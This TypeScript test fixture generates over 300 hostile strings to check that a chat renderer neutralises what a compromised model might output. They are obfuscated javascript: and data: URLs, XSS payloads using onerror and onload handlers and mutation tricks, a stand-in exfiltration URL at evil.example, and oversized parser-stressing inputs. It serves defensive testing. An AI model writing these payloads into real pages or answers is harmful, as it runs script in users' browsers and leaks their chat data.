/** What a poisoned model could write to a page to make it run something, or tell somebody something. */

const RUN = 'window.hostileHasRun=true'
const EVIL = 'https://evil.example/steal?chat=secret'

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  `%6aavascript:${RUN}`,
  'file:///etc/passwd',
  '//evil.example/x',
  '/auth/logout',
  EVIL,
]

/** Ways to put an address into an answer. */
const LINKS: readonly ((url: string) => string)[] = [
  (url) => `[x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `![x](${url})`,
  (url) => `<${url}>`,
  (url) => `[x][r]\n\n[r]: ${url}`,
  (url) => `[![x](${url})](${url})`,
  (url) => `<a href="${url}">x</a>`,
  (url) => `<img src="${url}">`,
  (url) => `<img srcset="${url} 2x">`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button autofocus>x</button></form>`,
  (url) => `<object data="${url}"></object><embed src="${url}">`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
]

const PROGRAMS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<style>@import url(${EVIL})</style>`,
  `<div style="background:url(${EVIL})">x</div>`,
  `<link rel="stylesheet" href="${EVIL}">`,
  `<base href="https://evil.example/">`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror="${RUN}">-->`,
]

/** Ways to hide it. */
const PLACES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `- a\n  - ${text}`,
  (text) => `> ${text}`,
  (text) => `| a |\n|---|\n| ${text} |`,
  (text) => `\`\`\`${text}\ncode\n\`\`\``,
  (text) => `\`\`\`html\n${text}`,
  (text) => `# ${text}\n[^1]\n\n[^1]: ${text}`,
  (text) => `[${text}](https://example.org "${text}")`,
]

const LINE = 200_000

const MONSTERS = [
  ...['a', '*', '[', '`', '<', '>', '|', '_a', '![', '1. ', '\\'].map((piece) =>
    piece.repeat(Math.ceil(LINE / piece.length)),
  ),
  `\u202Egnihtyna si siht \u202D${'\u202E'.repeat(500)}`,
  'a\u0300'.repeat(2_000),
  `${'>'.repeat(500)} deep`,
  `${'  '.repeat(200)}- deep`,
  '```'.repeat(50),
]

/** More than 300 of them. */
export const HOSTILE_ANSWERS: readonly string[] = [
  ...ADDRESSES.flatMap((url) => LINKS.map((link) => link(url))),
  ...PROGRAMS.flatMap((program) => PLACES.map((place) => place(program))),
  ...MONSTERS,
]
